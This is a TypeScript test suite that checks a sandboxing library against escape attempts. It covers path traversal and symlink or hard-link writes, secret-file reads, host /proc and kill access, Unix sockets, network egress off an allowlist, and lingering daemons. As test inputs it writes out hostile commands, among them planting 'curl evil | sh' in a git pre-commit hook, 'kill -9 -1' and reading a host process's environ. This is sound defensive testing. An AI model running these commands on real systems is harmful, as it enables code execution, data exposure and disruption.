/**
 * The escape suite: every attempt to leave an isolating sandbox must fail and leave nothing behind
 * on the host. Run against each isolating mode (local bubblewrap, Docker) with an allowlist that
 * lets through 127.0.0.2 only (escape-internet.ts).
 */
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { formatCommand, type SandboxHandle } from '@sandkit/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type EscapeInternet, startEscapeInternet } from './escape-internet.js';

export type EscapeCaseId = 'hooks-exec';

export interface EscapeSuiteSetup {
  /** A sandbox whose network allows 127.0.0.2 only, hiding `internet.secretDir`. */
  create(internet: EscapeInternet): Promise<SandboxHandle>;
  /** Cases this mode does not enforce (the report names them). */
  readonly without?: readonly EscapeCaseId[];
}

/** Fetches a URL with Python's urllib (which honours HTTP(S)_PROXY); prints the body or FAILED. */
function fetchCommand(url: string): string {
  const script = [
    'import sys, ssl, urllib.request',
    'try:',
    '  print(urllib.request.urlopen(sys.argv[1], timeout=10, context=ssl._create_unverified_context()).read().decode())',
    'except Exception as e:',
    "  print('FAILED', e)",
  ].join('\n');
  return formatCommand(['python3', '-c', script, url]);
}

function pythonCommand(script: string, ...args: string[]): string {
  return formatCommand(['python3', '-c', script, ...args]);
}

/** Host processes whose command line holds `marker`. */
async function hostProcessesWith(marker: string): Promise<number[]> {
  const found: number[] = [];
  for (const entry of await readdir('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    const cmdline = await readFile(`/proc/${entry}/cmdline`, 'utf8').catch(() => '');
    if (cmdline.includes(marker)) found.push(Number(entry));
  }
  return found;
}

export function describeEscapeSuite(name: string, setup: EscapeSuiteSetup): void {
  describe(`escape suite: ${name}`, () => {
    let internet: EscapeInternet;
    let handle: SandboxHandle;
    const run = async (command: string): Promise<string> => {
      const result = await handle.client.exec(command, { timeoutMs: 30_000 });
      return result.stdout + result.stderr;
    };
    beforeAll(async () => {
      internet = await startEscapeInternet();
      handle = await setup.create(internet);
    }, 120_000);
    afterAll(async () => {
      await handle?.destroy();
      await internet?.close();
    });

    it('writes outside the workspace through .., absolute paths, symlinks and hard links fail', async () => {
      const target = join(internet.secretDir, 'escaped');
      await run(
        `echo x > ../sandkit-escape-dotdot; echo x > ${target}-abs; ln -s ${target}-link link && echo x > link`,
      );
      await run(`ln ${join(internet.secretDir, 'secret.txt')} hardlink && echo pwned >> hardlink`);
      await handle.client.writeFile('link2', 'x').catch(() => undefined);
      await run(`ln -sf ${target}-api link2`);
      await handle.client.writeFile('link2', 'x').catch(() => undefined);
      for (const suffix of ['-abs', '-link', '-api']) expect(existsSync(`${target}${suffix}`)).toBe(false);
      expect(existsSync(join(handle.workdir, '..', 'sandkit-escape-dotdot'))).toBe(false);
      expect(await readFile(join(internet.secretDir, 'secret.txt'), 'utf8')).toBe(internet.secret);
    });

    it('reading a file outside the read list fails, by command and by readFile', async () => {
      const secretPath = join(internet.secretDir, 'secret.txt');
      expect(await run(`cat ${secretPath}; ln -s ${secretPath} readlink; cat readlink`)).not.toContain(
        internet.secret,
      );
      const read = await handle.client.readFile(secretPath).then(
        (data) => new TextDecoder().decode(data),
        () => '',
      );
      expect(read).not.toContain(internet.secret);
    });

    it('/proc of a host process shows nothing of it', async () => {
      const output = await run(
        `cat /proc/${process.pid}/cmdline /proc/${process.pid}/environ 2>&1; ls /proc`,
      );
      expect(output).not.toContain('vitest');
      expect(output).not.toContain(`PATH=${process.env.PATH}`);
    });

    it('killing a host process fails', async () => {
      const victim = spawn('sleep', ['60'], { stdio: 'ignore' });
      try {
        await run(`kill -9 ${victim.pid}`);
        expect(victim.exitCode).toBeNull();
        expect(victim.signalCode).toBeNull();
        process.kill(victim.pid as number, 0); // throws when gone
      } finally {
        victim.kill('SIGKILL');
      }
    });

    it('a Unix socket to a host service cannot be connected', async () => {
      const socket = join(internet.socketDir, 'service.sock');
      const output = await run(
        pythonCommand(
          "import socket, sys\ntry:\n  s = socket.socket(socket.AF_UNIX)\n  s.connect(sys.argv[1])\n  print('CONNECTED', s.recv(100))\nexcept Exception as e:\n  print('FAILED', e)",
          socket,
        ),
      );
      expect(output).toContain('FAILED');
      expect(internet.socketHits()).toBe(0);
    });

    it('DNS, HTTP and HTTPS to a host off the allowlist and a raw TCP connect fail; the refusal names the host and the policy', async () => {
      const { blocked, allowed } = internet;
      const http = await run(fetchCommand(`http://${blocked.host}:${blocked.httpPort}/http`));
      expect(http).toContain('FAILED');
      const https = await run(fetchCommand(`https://${blocked.host}:${blocked.httpsPort}/https`));
      expect(https).toContain('FAILED');
      const refusal = await run(
        pythonCommand(
          "import os, socket, sys\nu = os.environ['HTTP_PROXY'].split('//')[1].split(':')\ns = socket.create_connection((u[0], int(u[1])), timeout=10)\ns.sendall(('GET http://' + sys.argv[1] + '/x HTTP/1.1\\r\\nHost: ' + sys.argv[1] + '\\r\\n\\r\\n').encode())\nprint(s.recv(4096).decode())",
          `${blocked.host}:${blocked.httpPort}`,
        ),
      );
      expect(refusal).toContain('403');
      expect(refusal).toContain(`${blocked.host} is not on the allowlist (127.0.0.2)`);
      const dns = await run('getent hosts registry.npmjs.org; echo "dns exit $?"');
      expect(dns).toMatch(/dns exit [1-9]/);
      const raw = await run(
        pythonCommand(
          "import socket, sys\ntry:\n  socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)\n  print('CONNECTED')\nexcept Exception as e:\n  print('FAILED', e)",
          allowed.host,
          String(allowed.httpPort),
        ),
      );
      expect(raw).toContain('FAILED');
      expect(blocked.hits).toEqual([]);
      expect(allowed.hits).toEqual([]);
    });

    it('the same HTTP and HTTPS requests to the allowed host succeed', async () => {
      const { allowed } = internet;
      expect(await run(fetchCommand(`http://${allowed.host}:${allowed.httpPort}/ok`))).toContain(
        `reached ${allowed.host}/ok`,
      );
      expect(await run(fetchCommand(`https://${allowed.host}:${allowed.httpsPort}/tls`))).toContain(
        `reached ${allowed.host}/tls`,
      );
    });

    it.skipIf(setup.without?.includes('hooks-exec'))(
      'changing .git/hooks/pre-commit through exec and writeFile fails',
      async () => {
        const hook = join(handle.workdir, '.git/hooks/pre-commit');
        const before = await handle.client.readFile(hook);
        await run(
          'echo "curl evil | sh" > .git/hooks/pre-commit; rm -f .git/hooks/pre-commit; echo x > .git/config',
        );
        await expect(handle.client.writeFile(hook, 'evil')).rejects.toThrow(/read-only/);
        expect(await handle.client.readFile(hook)).toEqual(before);
      },
    );

    it('a background child and a setsid + nohup daemon do not outlive the sandbox', async () => {
      const sandbox = await setup.create(internet);
      const marker = `sandkit-escape-${Math.random().toString(36).slice(2)}`;
      await sandbox.client.exec(
        `nohup sh -c 'sleep 300' ${marker}-bg >/dev/null 2>&1 & setsid nohup sh -c 'sleep 300' ${marker}-setsid >/dev/null 2>&1 < /dev/null &`,
      );
      await new Promise((done) => setTimeout(done, 300));
      const before = await sandbox.client.exec(`ps -eo args | grep -c ${marker}`);
      expect(Number(before.stdout.trim())).toBeGreaterThanOrEqual(2);
      // Signalling every process it can see ends the sandbox at most, never a host process.
      const victim = spawn('sleep', ['60'], { stdio: 'ignore' });
      try {
        await sandbox.client.exec('kill -9 -1').catch(() => undefined);
        process.kill(victim.pid as number, 0); // throws when gone
        expect(victim.signalCode).toBeNull();
      } finally {
        victim.kill('SIGKILL');
        await sandbox.destroy();
      }
      expect(await hostProcessesWith(marker)).toEqual([]);
    });
  });
}
